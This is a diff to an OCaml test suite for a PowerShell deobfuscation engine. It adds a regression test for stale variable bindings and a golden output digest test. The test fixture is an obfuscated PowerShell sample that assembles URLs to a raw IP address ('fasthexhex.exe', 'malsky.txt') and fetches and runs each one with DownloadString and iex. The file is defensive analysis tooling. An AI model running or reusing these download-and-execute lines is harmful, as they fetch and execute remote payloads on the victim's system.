@@ -176,6 +176,84 @@ let test_alias_expansion_not_divergent () =
       ( "$a = 'he'+'llo'; iwmi $a | Out-Null",
         "$a = 'hello'\nInvoke-WmiMethod 'hello' | Out-Null\n" ) ]
 
+(* A variable-tracer binding went stale across an unwrapped payload: $u is
+   assigned from a -f piece, then `.($pshome[4]+$pshome[30]+'x') (…)` runs
+   a payload that reassigns $u, and the unverified output substitutes the
+   old URL into the second DownloadString($u).  Sample 472 of
+   [generate_hard ~seed:11] (ROADMAP item 1).  The gate catches it: the
+   substitution is rolled back.  The tracer fix itself changes outputs and
+   is left to that item, so this pins both halves as they stand. *)
+let stale_binding_sample =
+  "$u = (\"{4}{2}{0}{3}{1}\" -f '109.179','1.85/fasthexhex.exe','://','.11','http')\n\
+   $c = (New-Object Net.WebClient).DownloadString($u)\n\
+   iex $c\n\
+   ${-=%.} = '$u = ''';${@&} = (\"{0}{3}{1}{4}{2}\" -f 'h','ps:','/','tt','/');${@!*} = '29.';${+#} = '85.91.74/malsky.txt''';.($pshome[4]+$pshome[30]+'x') (${-=%.}+${@&}+${@!*}+${+#})\n\
+   $c = (New-Ob`je`ct Net.WebClient).DownloadString($u)\n\
+   iex $c\n"
+
+let second_download output =
+  match
+    List.filter
+      (fun l -> Pscommon.Strcase.contains ~needle:"DownloadString" l)
+      (String.split_on_char '\n' output)
+  with
+  | _ :: second :: _ -> second
+  | _ -> Alcotest.fail ("fewer than two DownloadString calls in\n" ^ output)
+
+let test_gate_catches_stale_binding () =
+  let stale = "http://109.179.111.85/fasthexhex.exe" in
+  let g, o = Deobf.Verify.run_guarded stale_binding_sample in
+  check_s "verdict" "rolled_back" (Deobf.Verify.verdict_name o.Deobf.Verify.verdict);
+  check_b "substitution rolled back" true
+    (List.mem "recover.substitute" o.Deobf.Verify.rolled_rules);
+  check_b "verified output does not pass the stale URL" false
+    (Pscommon.Strcase.contains ~needle:stale
+       (second_download g.Deobf.Engine.result.Deobf.Engine.output));
+  check_b "unverified output passes the stale URL" true
+    (Pscommon.Strcase.contains ~needle:stale
+       (second_download (Deobf.Engine.run stale_binding_sample).Deobf.Engine.output))
+
+(* Byte-identity guard for evaluator changes: 400 seeded samples from the
+   four generators through [Batch.run_source ~verify:true] with one shared
+   cache, digested over outputs, verdicts and recovery counts.  A change
+   that alters any output, verdict or count moves the digest; update the
+   constant only for a change that means to alter outputs. *)
+let golden_digest = "0fef3c61463c7ae0195c5c3637f4bc01"
+
+let test_golden_snapshot () =
+  let module G = Corpus.Generator in
+  let samples =
+    G.generate ~seed:71 ~count:160
+    @ G.generate_hard ~seed:72 ~count:80
+    @ G.generate_multilayer ~seed:73 ~count:80 ~min_depth:1 ~max_depth:4
+    @ G.generate_dynamic ~seed:74 ~count:80
+  in
+  let cache = Deobf.Recover.Cache.create () in
+  let buf = Buffer.create (1 lsl 20) in
+  List.iter
+    (fun (s : G.sample) ->
+      let o, output =
+        Deobf.Batch.run_source ~cache ~verify:true ~name:"golden" s.G.obfuscated
+      in
+      let st = o.Deobf.Batch.stats in
+      Buffer.add_string buf output;
+      Buffer.add_char buf '\000';
+      Buffer.add_string buf
+        (match o.Deobf.Batch.verdict with
+        | Some v -> Deobf.Verify.verdict_name v
+        | None -> "none");
+      List.iter
+        (fun n -> Buffer.add_string buf (Printf.sprintf " %d" n))
+        Deobf.Recover.
+          [ st.pieces_recovered; st.variables_substituted; st.layers_unwrapped;
+            st.pieces_attempted; st.pieces_blocked; st.cache_hits;
+            st.edits_recorded; st.dynamic_attempted; st.dynamic_recovered;
+            st.dynamic_unverifiable ];
+      Buffer.add_char buf '\n')
+    samples;
+  check_i "samples" 400 (List.length samples);
+  check_s "digest" golden_digest (Digest.to_hex (Digest.string (Buffer.contents buf)))
+
 let suite =
   [
     ("-contains prefix", `Quick, test_contains_not_case_prefixed);
@@ -196,4 +274,6 @@ let suite =
     ("range after value", `Quick, test_range_after_value);
     ("step budget is containment", `Quick, test_step_budget_is_containment);
     ("alias expansion not divergent", `Quick, test_alias_expansion_not_divergent);
+    ("gate catches stale binding", `Quick, test_gate_catches_stale_binding);
+    ("golden output snapshot", `Quick, test_golden_snapshot);
   ]
